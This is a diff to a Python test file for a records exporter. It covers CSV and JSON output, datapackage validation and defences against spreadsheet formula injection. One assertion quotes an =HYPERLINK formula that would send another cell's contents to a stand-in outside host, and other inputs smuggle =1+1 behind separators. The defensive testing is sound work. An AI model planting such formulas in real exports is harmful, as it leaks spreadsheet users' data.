@@ -36,28 +36,37 @@ def test_every_collection_as_csv_and_json_with_one_row_per_record(exported: Path
         if not folder.is_dir():
             continue
         ids = [p.stem for p in record_files(folder.name)]
-        with (exported / f"{folder.name}.csv").open() as f:
+        with (exported / f"{folder.name}.csv").open(encoding="utf-8-sig") as f:
             rows = list(csv.DictReader(f))
         assert [r["id"] for r in rows] == ids
         data = json.loads((exported / f"{folder.name}.json").read_text())
         assert [d["id"] for d in data] == ids
 
 
-def test_csv_cells_flatten_lists_and_sources(exported: Path) -> None:
-    with (exported / "activities.csv").open() as f:
+def test_csv_cells_hold_lists_and_nested_fields_as_json(exported: Path) -> None:
+    with (exported / "activities.csv").open(encoding="utf-8-sig") as f:
         row = next(csv.DictReader(f))
-    assert row["participants"] == "donor-b (funding); agency-a (implementing)"
-    assert row["countries"] == "CO; EC"
-    assert row["sources"] == "doc-a (sec. 4)"
-    assert row["period"] == "start: 2019, end: 2023"
+    # What tests/fixtures/mini/evidence/activities/project-x.yaml says, written by hand.
+    assert json.loads(row["participants"]) == [
+        {"organisation": "donor-b", "role": "funding"},
+        {"organisation": "agency-a", "role": "implementing"}]
+    assert json.loads(row["countries"]) == ["CO", "EC"]
+    assert json.loads(row["sources"]) == [{"key": "doc-a", "locator": "sec. 4"}]
+    assert json.loads(row["period"]) == {"start": 2019, "end": 2023, "ongoing": False}
+    assert row["acronym"] == "" and json.loads(row["results"]) == []
 
 
 def test_datapackage_is_valid_frictionless(exported: Path) -> None:
     report = validate(str(exported / "datapackage.json"))
     assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "message"])
     package = Package(str(exported / "datapackage.json"))
-    assert {r.name for r in package.resources} == {
-        p.name for p in (FIXTURES / "mini" / "evidence").iterdir() if p.is_dir()}
+    collections = {p.name for p in (FIXTURES / "mini" / "evidence").iterdir() if p.is_dir()}
+    names = {r.name for r in package.resources}
+    assert collections <= names
+    for resource in package.resources:  # the others: links between records
+        if resource.name not in collections:
+            assert resource.name.split("-")[0] in {c.split("-")[0] for c in collections}
+            assert resource.schema.foreign_keys, resource.name
 
 
 def test_activities_mapped_to_iati_fields(exported: Path) -> None:
@@ -104,7 +113,7 @@ def original_text(written: str) -> str:
 
 
 def read_csv(path: Path) -> list[dict[str, str]]:
-    with path.open(newline="", encoding="utf-8") as f:
+    with path.open(newline="", encoding="utf-8-sig") as f:
         return list(csv.DictReader(f))
 
 
@@ -138,11 +147,12 @@ def test_text_that_could_be_a_formula_gets_one_quote_and_reads_back(mini: Path,
             assert row[name] == ("'" + title if title.startswith((*FORMULA_START, "'"))
                                  else title)
         assert original_text(row["measure"]) == f"{title} measured"
-        assert original_text(row["notes"]) == f"{title}; second"
-        assert original_text(row["sources"]) == f"doc-a ({title})"
+        # A list is JSON: it starts with '[', never a formula, and holds the text unchanged.
+        assert json.loads(row["notes"]) == [title, "second"]
+        assert json.loads(row["sources"]) == [{"key": "doc-a", "locator": title}]
         # A number stays a number, negative or not: no quote, and the same value.
         assert float(row["value"]) == data["value"]
-    text = (tmp_path / "data" / "figures.csv").read_text(encoding="utf-8")
+    text = (tmp_path / "data" / "figures.csv").read_text(encoding="utf-8-sig")
     assert '"\'=HYPERLINK(""http://x?""&B2,""source"")"' in text  # quoted, then doubled quotes
     assert ',-2.5,' in text and ',-16000,' in text  # bare numbers, as a spreadsheet reads them
     assert "'-2.5" not in text and '"-2.5"' not in text
@@ -153,7 +163,7 @@ def test_every_text_cell_is_quoted_so_no_separator_starts_a_cell(mini: Path,
     write_figures(mini, ["a;=1+1", "b\t=1", "c,=1"])
     evidence_cli(mini, "export", "-o", str(tmp_path / "data"))
     for path in sorted((tmp_path / "data").glob("*.csv")):
-        with path.open(newline="", encoding="utf-8") as f:
+        with path.open(newline="", encoding="utf-8-sig") as f:
             header = next(csv.reader(f))
         types = {fd["name"]: fd["type"] for r in json.loads(
             (tmp_path / "data" / "datapackage.json").read_text())["resources"]
